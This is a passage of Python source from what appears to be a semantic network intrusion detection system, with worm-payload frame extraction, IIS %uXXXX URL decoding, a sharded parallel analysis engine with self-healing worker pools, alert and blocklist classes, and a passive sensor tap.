                    data=code[: self.max_frame],
                    origin=f"{name}-sled",
                    offset=base + entry,
                    note=f"sled {sled.length}B density {sled.density:.2f}",
                ))
        return frames

    # -- helpers ---------------------------------------------------------------

    def _trim_return_block(self, data: bytes) -> bytes:
        """Cut the frame at the start of a trailing repeated-dword block
        (the return-address region)."""
        best = len(data)
        for run in find_repeated_dwords(data, min_repeats=6):
            # Only trim if the run extends to (near) the end of the data.
            if run.end >= len(data) - 8 and run.start < best:
                best = run.start
        return data[:best]

    _ORIGIN_SUFFIXES = ("-unicode", "-overflow", "-sled", "-body")

    @classmethod
    def _origin_group(cls, origin: str) -> str:
        """Region name an origin was derived from ("http-body-sled" →
        "http-body"): frames from different regions cannot be substrings
        of each other by construction, so containment checks only need to
        run within a group."""
        for suffix in cls._ORIGIN_SUFFIXES:
            if origin.endswith(suffix):
                return origin[: -len(suffix)]
        return origin

    @classmethod
    def _dedupe(cls, frames: list[BinaryFrame]) -> list[BinaryFrame]:
        """Drop frames whose data is a suffix/duplicate of an earlier one.

        Exact duplicates (the common case: the same decoded run reached via
        two heuristics, or a worm payload repeated verbatim) are caught by a
        hash set in O(1); the quadratic substring scan is reserved for
        same-region frames, where one heuristic's frame can genuinely be a
        suffix of another's.
        """
        out: list[BinaryFrame] = []
        seen_exact: set[bytes] = set()
        by_group: dict[str, list[bytes]] = {}
        for frame in sorted(frames, key=lambda f: -len(f.data)):
            if frame.data in seen_exact:
                continue
            group = cls._origin_group(frame.origin)
            kept = by_group.setdefault(group, [])
            if any(frame.data in prior for prior in kept):
                continue
            seen_exact.add(frame.data)
            kept.append(frame.data)
            out.append(frame)
        out.sort(key=lambda f: f.offset)
        return out

"""%uXXXX (IIS "wide") and %XX URL decoding.

Code Red II delivers its binary stub as a run of ``%uXXXX`` escapes inside
the GET target (Figure 5).  Each escape encodes a 16-bit value stored
little-endian, so ``%u6858`` contributes bytes ``58 68``.  The extractor
translates such runs "into an appropriate binary form, for further
analysis" (§4.2).
"""

from __future__ import annotations

import re
from dataclasses import dataclass

__all__ = ["UnicodeRun", "find_unicode_runs", "decode_unicode_run",
           "percent_decode"]

_UNICODE_ESCAPE = re.compile(rb"%u([0-9a-fA-F]{4})")
_PERCENT_ESCAPE = re.compile(rb"%([0-9a-fA-F]{2})")


@dataclass
class UnicodeRun:
    """A contiguous run of %uXXXX escapes found in a payload region."""

    start: int  # offset of the first escape in the source bytes
    end: int    # offset one past the last escape
    escapes: list[int]  # the 16-bit values in order

    def decode(self) -> bytes:
        """Little-endian byte stream the escapes encode."""
        out = bytearray()
        for value in self.escapes:
            out.append(value & 0xFF)
            out.append(value >> 8)
        return bytes(out)

    @property
    def byte_length(self) -> int:
        return 2 * len(self.escapes)


def find_unicode_runs(data: bytes, min_escapes: int = 4) -> list[UnicodeRun]:
    """Locate maximal runs of consecutive %uXXXX escapes.

    Escapes must be back-to-back (possibly with other %u escapes between)
    to form a run; isolated escapes in otherwise-normal URLs are ignored
    via ``min_escapes``.
    """
    runs: list[UnicodeRun] = []
    current: UnicodeRun | None = None
    for m in _UNICODE_ESCAPE.finditer(data):
        value = int(m.group(1), 16)
        if current is not None and m.start() == current.end:
            current.escapes.append(value)
            current.end = m.end()
        else:
            if current is not None and len(current.escapes) >= min_escapes:
                runs.append(current)
            current = UnicodeRun(start=m.start(), end=m.end(), escapes=[value])
    if current is not None and len(current.escapes) >= min_escapes:
        runs.append(current)
    return runs


def decode_unicode_run(run: UnicodeRun) -> bytes:
    """Convenience wrapper for :meth:`UnicodeRun.decode`."""
    return run.decode()


def percent_decode(data: bytes) -> bytes:
    """Decode %XX escapes (leaving %uXXXX escapes untouched)."""
    if b"%" not in data:  # fast path: the common case in benign traffic
        return data
    out = bytearray()
    i = 0
    while i < len(data):
        if (
            data[i : i + 1] == b"%"
            and i + 2 < len(data) + 1
            and data[i + 1 : i + 2] not in (b"u", b"U")
        ):
            m = _PERCENT_ESCAPE.match(data, i)
            if m:
                out.append(int(m.group(1), 16))
                i = m.end()
                continue
        out.append(data[i])
        i += 1
    return bytes(out)

"""Flow-sharded parallel analysis engine.

The expensive stages of the pipeline — binary extraction and semantic
analysis (disassemble → lift → propagate → match) — are per-payload pure
functions, so they parallelize cleanly.  :class:`ParallelSemanticNids`
keeps the stateful stages (defragmentation, classification, stream
reassembly, alert dedup, blocklist) in the parent process and ships each
payload that survives classification to one of N single-process worker
pools, selected by ``hash(FlowKey) % N``:

- **sticky sharding** — all payloads of one flow land on the same worker,
  preserving per-flow analysis order and letting each worker's
  content-hash frame cache (`repro.core.analyzer.FrameCache`) see a
  flow's repeated frames;
- **picklable work units** — workers receive raw payload ``bytes``, never
  live ``Stream``/``Template`` objects (templates hold lambdas and do not
  pickle; each worker builds its own set from ``template_set`` by name);
- **deterministic merge** — results are drained in submission order, so
  the alert list, per-stream template dedup, and blocklist updates are
  byte-identical to a serial run over the same capture;
- **worker self-healing** — a dead worker (``BrokenProcessPool``) costs
  one failure on that shard's circuit breaker: the pool is rebuilt, the
  in-flight payload is retried once, and only ``breaker_threshold``
  *consecutive* failures open the breaker — after which the shard's
  payloads ride the in-process serial path while a capped exponential
  backoff elapses, then a single probe payload decides whether the shard
  re-closes.  Other shards never notice.  ``self_heal=False`` restores
  the old one-shot policy (first failure degrades the whole engine to
  serial, permanently);  ``workers <= 1`` never spawns a pool.
  Either way no alert is ever lost: stranded payloads are re-analyzed
  in-process.

Worker-side stage faults (extraction/analysis exceptions, analysis
deadlines) are contained *in the worker* and shipped back as
:class:`FaultRecord` entries on the result; the parent quarantines the
payload and emits the same degraded alert the serial engine would.

Alerts may surface a few packets later than in the serial engine (they
are returned once the worker's result is drained); ``flush()`` — called
automatically by ``process_trace`` — blocks until every pending payload
has been merged.
"""

from __future__ import annotations

import hashlib
import os
import time
from collections import OrderedDict, deque
from concurrent.futures import CancelledError, ProcessPoolExecutor
from concurrent.futures.process import BrokenProcessPool
from dataclasses import dataclass, field

from ..core.analyzer import SemanticAnalyzer
from ..core.library import (
    all_templates,
    decoder_templates,
    library_digest,
    paper_templates,
    xor_only_templates,
)
from ..errors import DeadlineExceeded, FlowKeyError
from ..extract.frames import BinaryExtractor
from ..net.flow import FlowKey
from ..net.packet import Packet
from ..obs import MetricsRegistry
from ..resilience.breaker import CLOSED, HALF_OPEN, CircuitBreaker
from ..resilience.deadline import Deadline
from ..resilience.firewall import DEADLINE_TEMPLATE, FAULT_TEMPLATE
from .alerts import Alert
from .pipeline import SemanticNids, _StreamState

__all__ = ["ParallelSemanticNids", "TEMPLATE_SETS", "resolve_template_set"]

#: Template sets addressable *by name*, so worker processes can rebuild
#: them locally instead of unpickling template objects.
TEMPLATE_SETS = {
    "paper": paper_templates,
    "all": all_templates,
    "xor-only": xor_only_templates,
    "decoder": decoder_templates,
}


def resolve_template_set(name: str):
    """Template list for a named set; raises ``ValueError`` on unknown."""
    try:
        factory = TEMPLATE_SETS[name]
    except KeyError:
        raise ValueError(
            f"unknown template set {name!r}; expected one of "
            f"{sorted(TEMPLATE_SETS)}") from None
    return factory()


# ---------------------------------------------------------------------------
# Worker side
# ---------------------------------------------------------------------------


@dataclass
class MatchRecord:
    """One template match, flattened to picklable fields."""

    template: str
    severity: str
    origin: str
    detail: str


@dataclass
class FaultRecord:
    """One contained worker-side stage fault, flattened for pickling.

    The worker catches the exception (so one poisoned payload cannot take
    the pool down), and the parent turns the record into the same
    quarantine entry + degraded alert the serial engine's stage firewall
    would have produced.
    """

    stage: str
    exc_type: str
    message: str
    deadline: bool = False  # DeadlineExceeded → the deadline template


@dataclass
class WorkResult:
    """Outcome of analyzing one payload in a worker.

    ``metrics`` is the worker registry's picklable delta for this payload
    (stage timings, extraction counters); the parent merges it, which is
    how worker-side stage time lands in ``--metrics-out``.  Replayed and
    piggybacked results carry ``metrics=None`` — no new work was done.
    """

    matches: list[MatchRecord] = field(default_factory=list)
    frames_extracted: int = 0
    frames_analyzed: int = 0
    cache_hits: int = 0
    cache_misses: int = 0
    metrics: dict | None = None
    faults: list[FaultRecord] = field(default_factory=list)


_WORKER_STATE: dict = {}


def _init_worker(template_set: str, frame_cache_size: int,
                 min_instructions: int,
                 deadline_units: int | None = None,
                 fastpath: bool = False,
                 compiled: bool = True,
                 ir_cache_size: int | None = None) -> None:
    """Per-process initializer: build the stateless stage objects once."""
    registry = MetricsRegistry()
    _WORKER_STATE["registry"] = registry
    _WORKER_STATE["extractor"] = BinaryExtractor(registry=registry)
    _WORKER_STATE["analyzer"] = SemanticAnalyzer(
        templates=resolve_template_set(template_set),
        min_instructions=min_instructions,
        frame_cache_size=frame_cache_size,
        registry=registry,
        fastpath=fastpath,
        compiled=compiled,
        ir_cache_size=ir_cache_size,
    )
    _WORKER_STATE["deadline_units"] = deadline_units


def _analyze_in_worker(payload: bytes) -> WorkResult:
    """Stages (b)-(e) on one payload; mirrors SemanticNids._analyze_payload
    minus the parent-side state (dedup, alerts, blocklist).

    Stage faults are contained here — recorded on ``result.faults`` rather
    than raised — so an exception in extraction or analysis costs one
    degraded alert, not a ``BrokenProcessPool``-sized recovery."""
    extractor: BinaryExtractor = _WORKER_STATE["extractor"]
    analyzer: SemanticAnalyzer = _WORKER_STATE["analyzer"]
    deadline_units = _WORKER_STATE.get("deadline_units")
    result = WorkResult()
    try:
        frames = extractor.extract(payload)
    except Exception as exc:  # noqa: BLE001 — firewall: contain, don't crash
        result.faults.append(FaultRecord(
            stage="extract", exc_type=type(exc).__name__, message=str(exc)))
        frames = []
    result.frames_extracted = len(frames)
    deadline = Deadline(deadline_units) if deadline_units else None
    for frame in frames:
        try:
            analysis = analyzer.analyze_frame(frame.data, deadline=deadline)
        except DeadlineExceeded as exc:
            result.faults.append(FaultRecord(
                stage="analyze", exc_type=type(exc).__name__,
                message=str(exc), deadline=True))
            break  # the budget is per-payload: remaining frames forfeit
        except Exception as exc:  # noqa: BLE001 — contain per-frame faults
            result.faults.append(FaultRecord(
                stage="analyze", exc_type=type(exc).__name__,
                message=str(exc)))
            continue
        result.frames_analyzed += 1
        if analyzer.frame_cache is not None:
            if analysis.cached:
                result.cache_hits += 1
            else:
                result.cache_misses += 1
        for match in analysis.matches:
            result.matches.append(MatchRecord(
                template=match.template.name,
                severity=match.template.severity,
                origin=frame.origin,
                detail=match.summary(),
            ))
    # Ship only what this payload changed; the components timed themselves
    # into the worker-local registry above.
    result.metrics = _WORKER_STATE["registry"].collect_delta()
    return result


# ---------------------------------------------------------------------------
# Parent side
# ---------------------------------------------------------------------------


class _DoneFuture:
    """Future-alike wrapping an already-known result, so payload-cache
    replays flow through the same in-order drain as live worker results."""

    __slots__ = ("_result",)

    def __init__(self, result: WorkResult) -> None:
        self._result = result

    def done(self) -> bool:
        return True

    def result(self) -> WorkResult:
        return self._result


@dataclass
class _Pending:
    """One in-flight payload awaiting its worker result."""

    future: object  # concurrent.futures.Future[WorkResult] | _DoneFuture
    timestamp: float
    source: str | None
    destination: str | None
    payload: bytes
    packet: Packet
    state: _StreamState | None
    digest: bytes | None = None  # payload-cache key to fill on completion
    #: first submission of this digest (owns the worker round-trip); later
    #: identical payloads share the owner's future and count as cache hits
    owner: bool = False
    #: shard the payload was submitted to (-1 for replays/piggybacks: they
    #: never touched a pool, so they never move a breaker)
    shard: int = -1
    #: pool generation at submit time — a rebuild bumps the shard's
    #: generation, so the N futures stranded by ONE dead worker count as
    #: one breaker failure, not N
    gen: int = -1
    #: half-open probe payload: its outcome alone re-closes or re-opens
    probe: bool = False


class ParallelSemanticNids(SemanticNids):
    """:class:`SemanticNids` with extraction + analysis fanned out across
    worker processes, sharded by flow.

    Parameters (beyond :class:`SemanticNids`):

    workers:
        Number of worker processes.  ``None`` = ``os.cpu_count()``;
        ``<= 1`` degrades to the fully serial path (no pools spawned).
    template_set:
        Name of the template set ("paper", "all", "xor-only", "decoder").
        Named rather than passed as objects so workers can rebuild it —
        template predicates are lambdas and do not pickle.
    max_pending:
        Backpressure bound: once this many payloads are in flight, the
        oldest results are drained before new work is submitted.
    payload_cache_size:
        Bound on the parent-side payload-digest result cache: a payload
        byte-identical to one already analyzed (a worm's request repeated
        at every victim) replays the merged :class:`WorkResult` without a
        worker round-trip at all.  Disabled alongside the frame cache
        (``frame_cache_size=0``) so "no caching" means none anywhere.
    self_heal:
        ``True`` (default): per-shard circuit breakers + pool rebuilds +
        retry-once, per the module docstring.  ``False``: legacy one-shot
        policy — the first worker failure degrades the engine to the
        serial path permanently.
    breaker_threshold:
        Consecutive pool failures on one shard before its breaker opens.
    breaker_backoff / breaker_backoff_cap:
        Initial and maximum open-state backoff, in seconds (each re-open
        doubles the wait).  ``breaker_backoff=0`` probes immediately —
        what the deterministic chaos tests use.
    breaker_clock:
        Injectable monotonic clock for the breakers (tests).
    """

    def __init__(
        self,
        workers: int | None = None,
        template_set: str = "paper",
        max_pending: int = 256,
        payload_cache_size: int = 2048,
        self_heal: bool = True,
        breaker_threshold: int = 3,
        breaker_backoff: float = 0.5,
        breaker_backoff_cap: float = 30.0,
        breaker_clock=None,
        **kwargs,
    ) -> None:
        if "templates" in kwargs:
            raise ValueError(
                "ParallelSemanticNids takes template_set=<name>, not "
                "templates=: template objects cannot be shipped to workers")
        self.template_set = template_set
        super().__init__(templates=resolve_template_set(template_set), **kwargs)
        self.workers = workers if workers is not None else (os.cpu_count() or 1)
        self.max_pending = max_pending
        self.self_heal = self_heal
        self._pending: deque[_Pending] = deque()
        self._degraded = False
        self._pools: list[ProcessPoolExecutor] = []
        caching_on = self.analyzer.frame_cache is not None
        self.payload_cache_size = payload_cache_size if caching_on else 0
        self._payload_cache: OrderedDict[bytes, WorkResult] = OrderedDict()
        #: digest → future of the first, still-pending submission; identical
        #: payloads arriving before it completes piggyback on that future
        #: instead of paying another worker round-trip.
        self._inflight: dict[bytes, object] = {}
        self._breakers: list[CircuitBreaker] = []
        self._pool_gen: list[int] = []
        if self.workers > 1:
            cache_size = (self.analyzer.frame_cache.max_entries
                          if self.analyzer.frame_cache is not None else 0)
            # Kept whole for pool rebuilds after a worker death.
            self._initargs = (template_set, cache_size,
                              self.analyzer.min_instructions,
                              self._deadline_units,
                              self.fastpath,
                              self.compiled,
                              self.ir_cache_size)
            self._pools = [
                ProcessPoolExecutor(
                    max_workers=1,
                    initializer=_init_worker,
                    initargs=self._initargs,
                )
                for _ in range(self.workers)
            ]
            clock = breaker_clock if breaker_clock is not None else time.monotonic
            self._breakers = [
                CircuitBreaker(
                    threshold=breaker_threshold,
                    backoff_base=breaker_backoff,
                    backoff_cap=breaker_backoff_cap,
                    clock=clock,
                )
                for _ in range(self.workers)
            ]
            self._pool_gen = [0] * self.workers

    # -- lifecycle ----------------------------------------------------------

    def __enter__(self) -> "ParallelSemanticNids":
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    def flush(self) -> list[Alert]:
        """Finalize unexamined stream tails, then drain every pending
        worker result; returns the alerts raised."""
        self._finalize_streams()
        out = self._drain(blocking=True)
        self.sync_frontend_stats()
        return out

    def close(self) -> None:
        """Drain pending work and shut the worker pools down."""
        self.flush()
        pools, self._pools = self._pools, []
        for pool in pools:
            # wait=True: flush() already drained the queues, so this is
            # quick, and it avoids interpreter-exit races with the pool's
            # management thread.
            pool.shutdown(wait=True, cancel_futures=True)

    # -- hot template reload ------------------------------------------------

    def reload_templates(self, templates) -> bool:
        raise ValueError(
            "ParallelSemanticNids reloads by set name "
            "(reload_template_set): template objects cannot be shipped "
            "to worker processes")

    def reload_template_set(self, template_set: str) -> bool:
        """Hot-swap to a named template set, fleet-wide.

        Pending work is drained first (in-flight payloads merge under
        the library they were submitted against), then the parent
        analyzer swaps (same digest-keyed semantics as the serial
        engine), and every worker pool is respawned with the new set in
        its initargs — worker frame caches and plans re-derive from
        scratch, so no worker can ever answer from a stale library.
        """
        templates = resolve_template_set(template_set)
        if library_digest(templates) == self.library_digest():
            return False
        self._drain(blocking=True)
        changed = super(ParallelSemanticNids, self).reload_templates(templates)
        self.template_set = template_set
        if self._pools:
            cache_size = (self.analyzer.frame_cache.max_entries
                          if self.analyzer.frame_cache is not None else 0)
            self._initargs = (template_set, cache_size,
                              self.analyzer.min_instructions,
                              self._deadline_units,
                              self.fastpath,
                              self.compiled,
                              self.ir_cache_size)
            for shard, old in enumerate(self._pools):
                old.shutdown(wait=False, cancel_futures=True)
                self._pools[shard] = ProcessPoolExecutor(
                    max_workers=1,
                    initializer=_init_worker,
                    initargs=self._initargs,
                )
        # Results cached parent-side were computed under the old library.
        self._payload_cache.clear()
        self._inflight.clear()
        return changed

    # -- dispatch -----------------------------------------------------------

    def _shard_of(self, pkt: Packet) -> int:
        try:
            key = hash(FlowKey.of(pkt))
        except FlowKeyError:  # no transport flow (e.g. ICMP payload)
            key = hash((pkt.src, pkt.dst))
        return key % self.workers

    def _analyze_payload(
        self, pkt: Packet, payload: bytes, state: _StreamState | None
    ) -> list[Alert]:
        if self._degraded or not self._pools:
            return super()._analyze_payload(pkt, payload, state)
        if not isinstance(payload, bytes):
            payload = bytes(payload)  # zero-copy views do not pickle
        digest = None
        if self.payload_cache_size > 0:
            digest = hashlib.sha1(payload).digest()
            cached = self._payload_cache.get(digest)
            if cached is not None:
                # Replay through the pending queue so alerts still merge in
                # submission order, exactly as a live result would.  Every
                # frame of a replayed payload counts as a cache hit.
                self._payload_cache.move_to_end(digest)
                replay = WorkResult(
                    matches=cached.matches,
                    frames_extracted=cached.frames_extracted,
                    frames_analyzed=cached.frames_analyzed,
                    cache_hits=cached.frames_analyzed,
                    faults=cached.faults,
                )
                self.stats.payloads_analyzed += 1
                self._pending.append(_Pending(
                    future=_DoneFuture(replay), timestamp=pkt.timestamp,
                    source=pkt.src, destination=pkt.dst, payload=payload,
                    packet=pkt, state=state,
                ))
                return self._drain(blocking=False)
            inflight = self._inflight.get(digest)
            if inflight is not None:
                # Same payload already on its way to a worker: share the
                # future rather than paying a second round-trip.
                self.stats.payloads_analyzed += 1
                self._pending.append(_Pending(
                    future=inflight, timestamp=pkt.timestamp, source=pkt.src,
                    destination=pkt.dst, payload=payload, packet=pkt,
                    state=state, digest=digest, owner=False,
                ))
                return self._drain(blocking=False)
        shard = self._shard_of(pkt)
        probe = False
        if self.self_heal and self._breakers:
            breaker = self._breakers[shard]
            if not self._breaker_allow(shard):
                # Shard cooling off (open, or a probe already out): the
                # payload rides the serial path in-process.  Other shards
                # keep their pools — this is per-shard containment.
                self.stats.serial_fallback_payloads += 1
                return super()._analyze_payload(pkt, payload, state)
            if breaker.state == HALF_OPEN:
                probe = True
                breaker.begin_probe()
        try:
            future = self._pools[shard].submit(_analyze_in_worker, payload)
        except (BrokenProcessPool, CancelledError, RuntimeError, OSError):
            if not self.self_heal:
                self._note_worker_failure()
                return super()._analyze_payload(pkt, payload, state)
            self.stats.worker_failures += 1
            self._breaker_failure(shard)
            self._rebuild_pool(shard)
            future = None
            if not self._breakers[shard].is_open:
                try:
                    self.stats.worker_retries += 1
                    future = self._pools[shard].submit(
                        _analyze_in_worker, payload)
                except (BrokenProcessPool, CancelledError, RuntimeError,
                        OSError):
                    self._breaker_failure(shard)
                    future = None
            if future is None:
                self.stats.serial_fallback_payloads += 1
                return super()._analyze_payload(pkt, payload, state)
        self.stats.payloads_analyzed += 1
        self.stats.payloads_offloaded += 1
        if digest is not None:
            self._inflight[digest] = future
        self._pending.append(_Pending(
            future=future, timestamp=pkt.timestamp, source=pkt.src,
            destination=pkt.dst, payload=payload, packet=pkt, state=state,
            digest=digest, owner=True, shard=shard,
            gen=self._pool_gen[shard] if self._pool_gen else -1, probe=probe,
        ))
        return self._drain(blocking=False)

    # -- merge --------------------------------------------------------------

    def _drain(self, blocking: bool) -> list[Alert]:
        """Merge completed results in submission order.

        Submission order is what the serial engine would have used, so
        alerts, dedup decisions, and blocklist updates come out identical
        no matter how the workers interleave.
        """
        out: list[Alert] = []
        while self._pending:
            head = self._pending[0]
            if (not blocking
                    and len(self._pending) <= self.max_pending
                    and not head.future.done()):
                break
            self._pending.popleft()
            try:
                result = head.future.result()
            except (BrokenProcessPool, CancelledError, OSError, RuntimeError):
                out.extend(self._recover_pending(head))
                continue
            if head.shard >= 0:
                self._breaker_success(head.shard)
            out.extend(self._finish_pending(head, result))
        return out

    def _finish_pending(self, head: _Pending, result: WorkResult) -> list[Alert]:
        """Payload-cache bookkeeping + merge for one completed payload."""
        if head.digest is not None:
            if head.owner:
                self._inflight.pop(head.digest, None)
                self._payload_cache[head.digest] = result
                self._payload_cache.move_to_end(head.digest)
                while len(self._payload_cache) > self.payload_cache_size:
                    self._payload_cache.popitem(last=False)
            else:
                # Piggybacked duplicate: account its frames as hits —
                # no worker round-trip or analysis was spent on it.
                result = WorkResult(
                    matches=result.matches,
                    frames_extracted=result.frames_extracted,
                    frames_analyzed=result.frames_analyzed,
                    cache_hits=result.frames_analyzed,
                    faults=result.faults,
                )
        return self._merge_result(head, result)

    def _recover_pending(self, head: _Pending) -> list[Alert]:
        """The pool died under an in-flight payload: heal the shard (or
        degrade, without ``self_heal``) and make sure the payload still
        gets analyzed — retried on the rebuilt pool, or in-process."""
        if head.owner and head.digest is not None:
            self._inflight.pop(head.digest, None)
        if not self.self_heal:
            self._note_worker_failure()
            # Recover in-process: undo the submit-time count (the serial
            # path re-counts) and run stages (b)-(e) locally.
            self.stats.payloads_analyzed -= 1
            return super()._analyze_payload(
                head.packet, head.payload, head.state)
        if head.shard < 0:
            # Piggyback on a future that broke: the owner's recovery (just
            # above it in the queue) already charged the breaker; this one
            # only needs its payload analyzed.
            self.stats.serial_fallback_payloads += 1
            self.stats.payloads_analyzed -= 1
            return super()._analyze_payload(
                head.packet, head.payload, head.state)
        shard = head.shard
        if head.gen == self._pool_gen[shard]:
            # First stranded future of this pool generation: this is THE
            # failure event.  Later futures stranded by the same death see
            # a newer generation and skip straight to the retry.
            self.stats.worker_failures += 1
            self._breaker_failure(shard)
            self._rebuild_pool(shard)
        if not self._breakers[shard].is_open:
            self.stats.worker_retries += 1
            try:
                # Blocking retry-once keeps the drain in submission order.
                result = self._pools[shard].submit(
                    _analyze_in_worker, head.payload).result()
            except (BrokenProcessPool, CancelledError, OSError, RuntimeError):
                self.stats.worker_failures += 1
                self._breaker_failure(shard)
                self._rebuild_pool(shard)
            else:
                self._breaker_success(shard)
                return self._finish_pending(head, result)
        self.stats.serial_fallback_payloads += 1
        self.stats.payloads_analyzed -= 1
        return super()._analyze_payload(head.packet, head.payload, head.state)

    def _merge_result(self, head: _Pending, result: WorkResult) -> list[Alert]:
        self.stats.frames_extracted += result.frames_extracted
        self.stats.frames_analyzed += result.frames_analyzed
        self.stats.frame_cache_hits += result.cache_hits
        self.stats.frame_cache_misses += result.cache_misses
        if result.metrics is not None:
            # Live worker result: fold its registry delta (stage timings,
            # extraction counters) into the parent registry — the stats
            # stage-timer views pick the numbers up from there.
            self.registry.merge_delta(result.metrics)
        else:
            # Cache replay / piggyback: no stage work happened anywhere,
            # but the call counts must match what a serial engine (whose
            # analyzer replays hits through analyze_frame) would record.
            self.stats.extraction.calls += 1
            self.stats.analysis.calls += result.frames_analyzed
        out: list[Alert] = []
        for record in result.matches:
            state = head.state
            if state is not None and record.template in state.alerted_templates:
                continue
            if state is not None:
                state.alerted_templates.add(record.template)
            alert = Alert(
                timestamp=head.timestamp,
                source=head.source or "?",
                destination=head.destination or "?",
                template=record.template,
                severity=record.severity,
                frame_origin=record.origin,
                detail=record.detail,
                match=None,  # TemplateMatch objects stay in the worker
            )
            self.alerts.append(alert)
            self.stats.alerts += 1
            if head.source:
                self.blocklist.block(head.source, head.timestamp)
            out.append(alert)
        # Worker-contained stage faults: run them through the parent's
        # firewall (count + quarantine) and emit the degraded alert the
        # serial engine would have — identical template/detail strings, so
        # serial/parallel alert parity holds under faults too.
        for fault in result.faults:
            template = DEADLINE_TEMPLATE if fault.deadline else FAULT_TEMPLATE
            detail = f"{fault.exc_type}: {fault.message}"
            stage = self.firewall.contain_record(
                fault.stage, reason=template, detail=detail,
                pkt=head.packet, payload=head.payload)
            out.extend(self._degraded_alert(
                stage, template, detail, head.timestamp, head.source,
                head.destination, head.state))
        return out

    # -- failure handling ---------------------------------------------------

    def _note_worker_failure(self) -> None:
        """A worker died (``self_heal=False``): record it and degrade to the
        serial path for all subsequent payloads (pending results are still
        drained/recovered)."""
        self.stats.worker_failures += 1
        self._degraded = True

    def _breaker_allow(self, shard: int) -> bool:
        """May this shard's pool take a payload right now?  Counts the
        open→half-open transition when the backoff has elapsed."""
        breaker = self._breakers[shard]
        was_open = breaker.state
        allowed = breaker.allow()
        if was_open != breaker.state and breaker.state == HALF_OPEN:
            self.stats.breaker_half_open += 1
        self._sync_breaker_gauge()
        return allowed

    def _breaker_failure(self, shard: int) -> None:
        breaker = self._breakers[shard]
        was_open = breaker.is_open
        breaker.record_failure()
        if breaker.is_open and not was_open:
            self.stats.breaker_opened += 1
        elif breaker.is_open:  # half-open probe failed: re-opened
            self.stats.breaker_opened += 1
        self._sync_breaker_gauge()

    def _breaker_success(self, shard: int) -> None:
        breaker = self._breakers[shard]
        was_closed = breaker.state == CLOSED
        breaker.record_success()
        if not was_closed:
            self.stats.breaker_closed += 1
        self._sync_breaker_gauge()

    def _sync_breaker_gauge(self) -> None:
        self.stats.breaker_open_shards = sum(
            1 for b in self._breakers if b.state != CLOSED)

    def _rebuild_pool(self, shard: int) -> None:
        """Tear the shard's broken pool down and spawn a fresh one.

        Bumping the generation first means every future stranded by the
        old pool is recognized as already-accounted-for in
        ``_recover_pending`` — one worker death is one breaker failure.
        """
        self._pool_gen[shard] += 1
        self.stats.pool_rebuilds += 1
        old = self._pools[shard]
        try:
            old.shutdown(wait=False, cancel_futures=True)
        except Exception:  # noqa: BLE001 — already-broken pools may throw
            pass
        self._pools[shard] = ProcessPoolExecutor(
            max_workers=1,
            initializer=_init_worker,
            initargs=self._initargs,
        )

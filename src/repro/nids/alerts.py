"""Alert model and response actions."""

from __future__ import annotations

from dataclasses import dataclass, field

from ..core.template import TemplateMatch

__all__ = ["Alert", "BlockList"]


@dataclass
class Alert:
    """One detection event.

    "If a piece of code matches one of our templates, an alert is
    generated, and further action may be taken against the offending IP
    address." (§4.3)
    """

    timestamp: float
    source: str
    destination: str
    template: str
    severity: str
    frame_origin: str
    detail: str = ""
    match: TemplateMatch | None = field(default=None, repr=False)

    def format(self) -> str:
        return (f"[{self.timestamp:12.6f}] {self.severity.upper():8s} "
                f"{self.template:24s} {self.source} -> {self.destination} "
                f"({self.frame_origin}) {self.detail}")


class BlockList:
    """The "further action": sources that triggered alerts get blocked."""

    def __init__(self) -> None:
        self._blocked: dict[str, float] = {}

    def block(self, address: str, when: float) -> None:
        self._blocked.setdefault(address, when)

    def is_blocked(self, address: str) -> bool:
        return address in self._blocked

    def blocked_since(self, address: str) -> float | None:
        return self._blocked.get(address)

    def __len__(self) -> int:
        return len(self._blocked)

    def addresses(self) -> list[str]:
        return sorted(self._blocked)

"""A live sensor: the NIDS attached to the software wire as a passive tap.

"This NIDS can be deployed on a standalone machine connected to the
network." (§4) — :class:`NidsSensor` is that machine in our simulation:
attach it to a :class:`~repro.net.wire.Wire` and every transmitted packet
flows through the five-stage pipeline; alerts surface via an optional
callback.

The callback runs behind the pipeline's stage firewall: an exception in
the operator's ``on_alert`` handler is contained as a ``deliver`` fault
(counted, quarantine-logged) instead of killing the tap — a buggy
response script must not blind the sensor.
"""

from __future__ import annotations

from typing import Callable

from ..net.packet import Packet
from ..net.wire import Wire
from .alerts import Alert
from .pipeline import SemanticNids

__all__ = ["NidsSensor"]


class NidsSensor:
    """Wraps :class:`SemanticNids` as a wire tap."""

    def __init__(
        self,
        nids: SemanticNids,
        on_alert: Callable[[Alert], None] | None = None,
    ) -> None:
        self.nids = nids
        self.on_alert = on_alert

    def attach(self, wire: Wire) -> None:
        wire.attach(self._tap)

    def detach(self, wire: Wire) -> None:
        """Stop observing the wire.  Any analysis still in flight (the
        parallel engine defers payloads to workers) is drained first so no
        alert callback is lost."""
        wire.detach(self._tap)
        self.flush()

    def flush(self) -> None:
        """Drain deferred analysis and deliver the resulting alerts."""
        for alert in self.nids.flush():
            self._deliver(alert)

    def _tap(self, pkt: Packet) -> None:
        for alert in self.nids.process_packet(pkt):
            self._deliver(alert)

    def _deliver(self, alert: Alert) -> None:
        """Hand one alert to the operator callback, firewalled.

        No degraded alert is emitted for a delivery fault (it would have
        to be delivered through the same broken callback) — the fault
        counter and quarantine entry are the signal.
        """
        if self.on_alert is None:
            return
        try:
            self.on_alert(alert)
        except Exception as exc:  # noqa: BLE001 — operator code is untrusted
            self.nids.firewall.contain_record(
                "deliver", reason="resilience.stage-fault",
                detail=f"{type(exc).__name__}: {exc}")

    @property
    def alerts(self) -> list[Alert]:
        return self.nids.alerts

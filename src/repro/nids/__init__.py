"""The five-stage semantic NIDS pipeline, alerts, statistics, the
wire-attached live sensor, the always-on daemon, and the scale-out
sensor fleet."""

from .alerts import Alert, BlockList
from .stats import NidsStats, StageTimer
from .pipeline import SemanticNids
from .parallel import ParallelSemanticNids
from .sensor import NidsSensor
from .daemon import DaemonStats, IterPacketSource, SensorDaemon, TailPacketSource
from .fleet import FleetStats, SensorFleet
from .report import AlertReport, build_report

__all__ = ["Alert", "BlockList", "NidsStats", "StageTimer", "SemanticNids",
           "ParallelSemanticNids", "NidsSensor",
           "SensorDaemon", "DaemonStats", "IterPacketSource",
           "TailPacketSource", "SensorFleet", "FleetStats",
           "AlertReport", "build_report"]

"""The five-stage semantic NIDS pipeline, alerts, statistics, and the
wire-attached live sensor."""

from .alerts import Alert, BlockList
from .stats import NidsStats, StageTimer
from .pipeline import SemanticNids
from .parallel import ParallelSemanticNids
from .sensor import NidsSensor
